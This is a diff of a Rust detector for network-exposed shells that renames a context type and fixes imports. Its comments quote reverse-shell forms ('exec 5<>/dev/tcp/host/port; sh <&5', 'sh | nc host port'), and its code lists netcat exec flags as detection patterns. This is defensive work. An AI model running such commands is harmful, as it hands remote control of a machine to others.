@@ -1,11 +1,11 @@
 //! A shell given to somebody on the network.
 
-use super::Look;
+use super::CheckContext;
 use crate::policy::guard::exec::{inline_code, is_interpreter, is_shell};
-use crate::policy::guard::hit::Hit;
+use crate::policy::guard::match_result::Hit;
 use crate::policy::guard::path::name;
-use crate::shell::runner::SHELLS;
-use crate::shell::{Command, RedirectOp, Word};
+use shell::runner::SHELLS;
+use shell::{Command, RedirectOp, Word};
 
 /// How many commands in front are looked at.
 const MOST_BEFORE: usize = 64;
@@ -36,7 +36,7 @@ const SHELL_NAMES: [&str; 8] = [
     "\"bash\"",
 ];
 
-pub(super) fn find(look: &Look<'_>) -> Option<Hit> {
+pub(super) fn find(look: &CheckContext<'_>) -> Option<Hit> {
     let seen = look.seen;
     let found = match seen.program {
         Some("nc" | "ncat" | "netcat") => seen.has(&["-e", "-c", "--exec", "--sh-exec"]) || feeds_shell(look),
@@ -59,7 +59,7 @@ pub(super) fn find(look: &Look<'_>) -> Option<Hit> {
     found.then(Hit::yes)
 }
 
-fn talks(look: &Look<'_>) -> bool {
+fn talks(look: &CheckContext<'_>) -> bool {
     is_connection(look.seen.command)
 }
 
@@ -70,7 +70,7 @@ fn is_connection(command: &Command) -> bool {
 }
 
 /// `exec 5<>/dev/tcp/host/port; sh <&5`: a descriptor opened before is where the shell's commands come from.
-fn reads_connection(look: &Look<'_>) -> bool {
+fn reads_connection(look: &CheckContext<'_>) -> bool {
     let seen = look.seen;
     let commands = &seen.intent.commands;
     let reads_descriptor = |command: &Command| {
@@ -92,7 +92,7 @@ fn reads_connection(look: &Look<'_>) -> bool {
 }
 
 /// Whether a connection was opened earlier in the text.
-fn opened_before(look: &Look<'_>) -> bool {
+fn opened_before(look: &CheckContext<'_>) -> bool {
     let before = look.seen.before().iter();
     before.rev().take(MOST_BEFORE).any(is_connection)
 }
@@ -115,7 +115,7 @@ fn hands_out_shell(code: &str) -> bool {
 }
 
 /// `sh | nc host port`: what the shell says goes out.
-fn feeds_shell(look: &Look<'_>) -> bool {
+fn feeds_shell(look: &CheckContext<'_>) -> bool {
     let listens = look.seen.has(&["-l", "--listen"]);
     let talks = !look.seen.operands().is_empty() || listens;
     talks
